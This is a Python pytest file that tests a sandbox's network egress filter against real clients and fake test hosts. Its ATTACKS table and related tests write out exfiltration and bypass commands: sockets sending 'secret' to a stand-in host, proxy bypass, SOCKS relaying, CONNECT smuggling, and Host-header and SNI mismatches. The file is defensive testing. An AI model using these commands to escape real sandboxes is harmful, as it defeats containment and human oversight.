"""A box with filtered network, run by real clients against real servers on test hosts in their
own network namespaces: what the judge allows works, whichever way a client connects, and
nothing else reaches anyone. Every attack row checks the hosts' own logs, not only what the
client said."""

from __future__ import annotations

import shutil
import subprocess
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest
from net_hosts import TestNet

from stockade.sandbox import Bubblewrap, Mount, ProcessResult, VirtualFS, run_process
from stockade.sandbox.egress import Egress, Verdict

pytestmark = pytest.mark.skipif(
    not Bubblewrap.probe().available, reason="bubblewrap is needed to box commands"
)

ALLOWED = "allowed.test"
OTHER = "other.test"  # on no list: refused
PRIVATE = "private.test"  # allowed by name, but its address is in no network reach_private lists
LOCAL = "local.test"  # allowed by name, mapped to the host's own loopback


class Net:
    """The hosts, and a box whose judge allows the three names ``ALLOWED``, ``PRIVATE`` and
    ``LOCAL`` (and the ports of each host's services)."""

    def __init__(self, fake_net: TestNet, workspace: Path) -> None:
        self.allowed = fake_net.host(ALLOWED)
        self.other = fake_net.host(OTHER)
        self.private = fake_net.host(PRIVATE)
        self.local = fake_net.hosts.get(LOCAL) or fake_net.add_loopback(LOCAL)
        self.workspace = workspace
        shutil.copy(fake_net.ca_path, workspace / "ca.pem")
        self.big_sha256 = fake_net.big_sha256
        self.asked: list[tuple[str, int]] = []

    def judge(self, host: str, port: int) -> Verdict:
        self.asked.append((host, port))
        if host in (ALLOWED, PRIVATE, LOCAL):
            return Verdict(True, f"{host} is allowed")
        return Verdict(False, f"{host} is on no list")

    def egress(self) -> Egress:
        hosts = {h.name: h.address for h in (self.allowed, self.other, self.private, self.local)}
        return Egress(
            judge=self.judge,
            hosts=hosts,
            reach_private=[f"{self.allowed.address}/32", f"{self.other.address}/32"],
            ports=[self.allowed.sink_port, self.local.http_port],
        )

    def run(self, command: str, timeout: float = 60) -> ProcessResult:
        fs = VirtualFS([Mount("/workspace", self.workspace)])
        return run_process(command, fs=fs, timeout=timeout, network=self.egress())

    def marks(self) -> dict[str, int]:
        return {h.name: h.mark() for h in (self.allowed, self.other, self.private, self.local)}

    def untouched(self, marks: dict[str, int], *names: str) -> None:
        """Nothing reached the hosts ``names`` since ``marks``."""
        for host in (self.allowed, self.other, self.private, self.local):
            if host.name in names:
                assert host.received()[marks[host.name] :] == [], f"{host.name} was reached"


@pytest.fixture(scope="module")
def net(fake_net: TestNet, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Net]:
    return Net(fake_net, tmp_path_factory.mktemp("egress-workspace"))


def _said(result: ProcessResult) -> str:
    return f"exit {result.exit_code}\n{result.stdout}\n{result.stderr}"


# -- what must keep working ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "curl -sSf http://allowed.test/hello.txt",  # through the HTTP proxy
        "curl -sSf --cacert ca.pem https://allowed.test/hello.txt",  # CONNECT
        "curl -sSf --noproxy '*' http://allowed.test/hello.txt",  # straight, ignoring the proxy
        "curl -sSf --noproxy '*' --cacert ca.pem https://allowed.test/hello.txt",
        "curl -sSf --socks5-hostname 127.0.0.1:1080 http://allowed.test/hello.txt",
        "python3 -c \"import urllib.request as u; print(u.urlopen('http://allowed.test/hello.txt')"
        '.read().decode())"',
    ],
)
def test_an_allowed_host_is_reached_whichever_way_a_client_connects(net: Net, command: str) -> None:
    marks = net.marks()
    result = net.run(command)
    assert result.exit_code == 0, _said(result)
    assert f"hello from {ALLOWED}" in result.stdout
    assert net.allowed.received()[marks[ALLOWED] :], "the allowed host saw nothing"
    assert [c for c in result.connections if c.host == ALLOWED and c.allowed]
    net.untouched(marks, OTHER, PRIVATE, LOCAL)


def test_a_ten_megabyte_download_arrives_whole(net: Net) -> None:
    result = net.run("curl -sSf http://allowed.test/big.bin | sha256sum")
    assert result.exit_code == 0, _said(result)
    assert result.stdout.split()[0] == net.big_sha256
    (connection,) = [c for c in result.connections if c.host == ALLOWED]
    assert connection.bytes_received > 10_000_000


def test_pip_installs_from_an_allowed_index(net: Net) -> None:
    result = net.run(
        "python3 -m pip download --no-deps --no-cache-dir --isolated -d /tmp/got --cert ca.pem "
        "--index-url https://allowed.test/simple stockade-egress-probe && ls /tmp/got",
        timeout=120,
    )
    assert result.exit_code == 0, _said(result)
    assert "stockade_egress_probe" in result.stdout


def test_git_clones_from_an_allowed_host(net: Net) -> None:
    result = net.run(
        "git clone -q http://allowed.test/repo.git /tmp/repo && git -C /tmp/repo log --oneline"
    )
    assert result.exit_code == 0, _said(result)
    assert result.stdout.strip()


def test_the_box_keeps_no_capability_and_its_own_loopback_works(net: Net) -> None:
    script = textwrap.dedent(
        """
        grep -E '^Cap(Eff|Prm|Bnd|Amb)' /proc/self/status
        python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 &
        for i in $(seq 50); do curl -s -o /dev/null http://127.0.0.1:8000/ && break; sleep 0.1; done
        curl -sS -o /dev/null -w 'own %{http_code}\\n' http://127.0.0.1:8000/
        python3 -c "import socket; s=socket.socket(); s.bind(('127.0.0.1', 3128))" 2>&1 | tail -1
        """
    )
    result = net.run(script)
    assert result.stdout.count("0000000000000000") == 4, _said(result)
    assert "own 200" in result.stdout  # NO_PROXY: the box's own servers are not proxied
    assert "Address already in use" in result.stdout  # the proxy's port cannot be taken


# -- what must be held --------------------------------------------------------------------------

ATTACKS = {
    "unlisted host through the proxy": "curl -sS http://other.test/hello.txt",
    "unlisted host, proxy ignored": "curl -sS --noproxy '*' http://other.test/hello.txt",
    "unlisted host over https, proxy ignored": (
        "curl -sS --noproxy '*' --cacert ca.pem https://other.test/hello.txt"
    ),
    "unlisted host by SOCKS": "curl -sS --socks5-hostname 127.0.0.1:1080 http://other.test/",
    "CONNECT to an unlisted address": "curl -sS -p http://{other_address}/hello.txt",
    "straight to an address": "curl -sS --noproxy '*' --max-time 5 http://{other_address}/hello.txt",
    "raw socket to the sink": (
        "python3 -c \"import socket; s=socket.create_connection(('other.test', {sink}), 5); "
        "s.sendall(b'secret'); print(s.recv(10))\""
    ),
    "UDP to an address": (
        'python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); '
        "s.sendto(b'secret', ('{other_address}', {sink}))\""
    ),
    "name leading to a private address": "curl -sS http://private.test/hello.txt",
    "name leading to a private address, proxy ignored": (
        "curl -sS --noproxy '*' http://private.test/hello.txt"
    ),
    "name leading to the host's loopback": "curl -sS http://local.test:{local_port}/hello.txt",
    "the host's loopback straight": (
        "curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:{local_port}/hello.txt"
    ),
    "the proxy relayed through itself": (
        "curl -sS --socks5-hostname 127.0.0.1:1080 -p http://other.test/hello.txt"
    ),
}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_an_attack_reaches_no_other_host(net: Net, name: str) -> None:
    command = ATTACKS[name].format(
        other_address=net.other.address,
        sink=net.other.sink_port,
        local_port=net.local.http_port,
    )
    marks = net.marks()
    result = net.run(command)
    net.untouched(marks, OTHER, PRIVATE, LOCAL)
    assert "hello from" not in result.stdout, _said(result)
    assert "secret" not in "".join(r.describe() for r in net.other.received())
    assert not [c for c in result.connections if c.allowed and c.host != ALLOWED and c.address]


def test_each_refusal_says_why(net: Net) -> None:
    result = net.run(
        "curl -sS http://other.test/; curl -sS http://private.test/; "
        f"curl -sS http://local.test:{net.local.http_port}/"
    )
    reasons = {c.host: c.reason for c in result.connections if not c.allowed}
    assert "on no list" in reasons[OTHER]
    assert "private address" in reasons[PRIVATE]
    assert "loopback address" in reasons[LOCAL]
    assert "stockade refused other.test:80" in result.stdout


def _to_the_proxy(payload: str) -> str:
    """A command that writes ``payload`` (bytes literal text) to the box's HTTP proxy in one
    go and prints everything that comes back."""
    script = textwrap.dedent(
        f"""
        import socket
        s = socket.create_connection(("127.0.0.1", 3128))
        s.sendall({payload})
        s.settimeout(5)
        data = b""
        try:
            while chunk := s.recv(65536):
                data += chunk
        except OSError:
            pass
        print(data.decode(errors="replace"))
        """
    )
    return f"python3 -c '{script}'"


def test_a_relayed_connect_inside_an_allowed_tunnel_goes_to_the_allowed_host_only(net: Net) -> None:
    marks = net.marks()
    result = net.run(
        _to_the_proxy(
            'b"CONNECT allowed.test:80 HTTP/1.1\\r\\nHost: allowed.test:80\\r\\n\\r\\n"'
            'b"CONNECT other.test:80 HTTP/1.1\\r\\nHost: other.test:80\\r\\n\\r\\n"'
            'b"GET http://other.test/hello.txt HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n"'
        )
    )
    net.untouched(marks, OTHER, PRIVATE, LOCAL)
    assert "hello from other.test" not in result.stdout
    assert [c.host for c in result.connections] == [ALLOWED]


def test_plain_requests_on_one_connection_are_each_judged(net: Net) -> None:
    marks = net.marks()
    result = net.run(
        _to_the_proxy(
            'b"GET http://allowed.test/hello.txt HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"'
            'b"GET http://other.test/hello.txt HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n"'
        )
    )
    net.untouched(marks, OTHER)
    assert "hello from allowed.test" in result.stdout
    assert "hello from other.test" not in result.stdout


@pytest.mark.parametrize(
    "command",
    [
        # a TLS client naming another host than the one its CONNECT was judged for
        "curl -sS --cacert ca.pem --connect-to allowed.test:443:allowed.test:443 "
        "-p https://other.test/hello.txt",
        # straight to the allowed host's address, asking for another by Host
        "curl -sS --noproxy '*' -H 'Host: other.test' http://allowed.test/hello.txt",
        # and by TLS server name
        "curl -sS --noproxy '*' -k --resolve other.test:443:$(getent hosts allowed.test | "
        "cut -d' ' -f1) https://other.test/hello.txt",
    ],
)
def test_a_name_that_differs_from_the_one_judged_is_refused(net: Net, command: str) -> None:
    marks = net.marks()
    result = net.run(command)
    assert "hello from" not in result.stdout, _said(result)
    net.untouched(marks, OTHER)
    refused = [c for c in result.connections if not c.allowed]
    assert refused, result.connections
    assert "other.test" in refused[0].reason


def test_the_dns_stub_answers_every_name_on_the_box_own_loopback(net: Net) -> None:
    result = net.run("getent hosts allowed.test other.test; getent hosts allowed.test")
    lines = result.stdout.split("\n")
    assert lines[0].startswith("127.100.")
    assert lines[1].startswith("127.100.")
    assert lines[0].split()[0] != lines[1].split()[0]  # one address per name
    assert lines[0].split()[0] == lines[2].split()[0]  # the same each time


def test_without_bubblewrap_a_filtered_network_is_refused(net: Net) -> None:
    from stockade.sandbox import SandboxError

    fs = VirtualFS([Mount("/workspace", net.workspace)])
    with pytest.raises(SandboxError, match="needs bubblewrap"):
        run_process("true", fs=fs, timeout=5, network=net.egress(), isolation="none")


def test_the_proxy_leaves_no_thread_or_socket_behind(net: Net) -> None:
    import threading

    before = {t.ident for t in threading.enumerate()}
    net.run("curl -s http://allowed.test/hello.txt; curl -s http://other.test/ & sleep 0.2")
    leftover = [t for t in threading.enumerate() if t.ident not in before and t.is_alive()]
    assert [t.name for t in leftover if t.name == "stockade-egress"] == []
    assert subprocess.run(["true"], check=True).returncode == 0
